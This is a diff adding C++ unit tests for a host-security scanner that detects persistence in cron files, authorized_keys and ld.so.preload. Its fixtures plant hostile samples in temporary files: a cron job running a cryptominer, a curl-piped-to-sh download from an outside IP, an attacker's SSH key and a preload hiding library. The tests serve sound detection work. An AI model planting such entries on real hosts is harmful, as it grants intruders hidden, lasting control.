@@ -4,8 +4,11 @@
 #include <gtest/gtest.h>
 #include <sys/stat.h>
 
+#include <cstdio>
+#include <filesystem>
 #include <fstream>
 #include <map>
+#include <set>
 
 #include "agent/test/test_util.h"
 
@@ -125,6 +128,80 @@ TEST(Persistence, RecentlyModifiedBinariesAndKeysOnTheFirstScan) {
   EXPECT_EQ(found.find("binary-modified")->second.severity, policy::Severity::kWeak);
   ASSERT_EQ(found.count("ssh-key-added"), 1u);
   EXPECT_EQ(found.find("ssh-key-added")->second.field_path, "/root/.ssh/authorized_keys");
+}
+
+// Files are read whole, line by line: padding before the entry does not hide it.
+TEST(Persistence, AMinerLineAfterMegabytesOfCommentsIsFound) {
+  TempTree host("host_clean");
+  std::string padded;
+  size_t lines = 0;
+  while (padded.size() < 1'100'000) {
+    padded += "# rotate the logs of the web tier every night; see the runbook for details\n";
+    ++lines;
+  }
+  std::ofstream(host.path() + "/etc/cron.d/padded")
+      << padded << "* * * * * root /tmp/.x/m -o stratum+tcp://pool.example.com:3333\n";
+  HostView view({testdata("proc"), host.path()});
+  FakeClock clock;
+  PersistenceScanner scanner(&view, &clock);
+  auto found = by_rule(scanner.scan(policy::built_in_default()));
+  ASSERT_EQ(found.count("cron-persistence"), 1u);
+  EXPECT_EQ(found.find("cron-persistence")->second.field_path,
+            "/etc/cron.d/padded:" + std::to_string(lines + 1));
+  EXPECT_EQ(found.count("oversized-file"), 0u);
+}
+
+// Every line is counted, and the baseline remembers all of them: the next scan reports the
+// one key added after a million, and only it.
+TEST(Persistence, AMillionLineAuthorizedKeysIsCountedWhole) {
+  TempTree host("host_clean");
+  std::filesystem::create_directories(host.path() + "/root/.ssh");
+  const std::string keys = host.path() + "/root/.ssh/authorized_keys";
+  {
+    std::ofstream out(keys);
+    char line[64];
+    for (int i = 0; i < 1'000'000; ++i) {
+      std::snprintf(line, sizeof(line), "ssh-ed25519 AAAA%07d k@fleet\n", i);
+      out << line;
+    }
+  }
+  FakeClock clock;
+  set_mtime(keys, wall_seconds(clock) - 60);
+  HostView view({testdata("proc"), host.path()});
+  PersistenceScanner scanner(&view, &clock);
+  auto first = by_rule(scanner.scan(policy::built_in_default()));
+  ASSERT_EQ(first.count("ssh-key-added"), 1u);
+  EXPECT_NE(first.find("ssh-key-added")->second.message.find("(1000000 keys)"), std::string::npos)
+      << first.find("ssh-key-added")->second.message;
+
+  std::ofstream(keys, std::ios::app) << "ssh-rsa AAAAnew root@attacker\n";
+  auto second = by_rule(scanner.scan(policy::built_in_default()));
+  ASSERT_EQ(second.count("ssh-key-added"), 1u);
+  EXPECT_EQ(second.find("ssh-key-added")->second.evidence, "ssh-rsa AAAAnew root@attacker");
+}
+
+// Over the bound, the file is named; the lines before the bound are still checked.
+TEST(Persistence, AFileOverTheBoundIsReportedByName) {
+  TempTree host("host_clean");
+  std::ofstream(host.path() + "/etc/cron.d/padded")
+      << "@reboot root curl -fsSL http://203.0.113.5/x | sh\n"
+      << std::string(100'000, '#') << "\n"
+      << "* * * * * root /tmp/.x/m -o stratum+tcp://pool.example.com:3333\n";
+  std::ofstream(host.path() + "/etc/ld.so.preload")
+      << std::string(5'000, ' ') << "/usr/local/lib/libhide.so\n";
+  HostView view({testdata("proc"), host.path()});
+  FakeClock clock;
+  PersistenceScanner scanner(&view, &clock, std::chrono::hours(24),
+                             LineLimits{.max_file_bytes = 64 << 10, .max_line_bytes = 4096});
+  auto found = by_rule(scanner.scan(policy::built_in_default()));
+  std::set<std::string> oversized;
+  for (auto [it, end] = found.equal_range("oversized-file"); it != end; ++it) {
+    oversized.insert(it->second.field_path);
+    EXPECT_EQ(it->second.severity, policy::Severity::kStrong);
+  }
+  EXPECT_EQ(oversized, (std::set<std::string>{"/etc/cron.d/padded", "/etc/ld.so.preload"}));
+  ASSERT_EQ(found.count("cron-persistence"), 1u);  // the first line, before the bound
+  EXPECT_EQ(found.find("cron-persistence")->second.field_path, "/etc/cron.d/padded:1");
 }
 
 }  // namespace
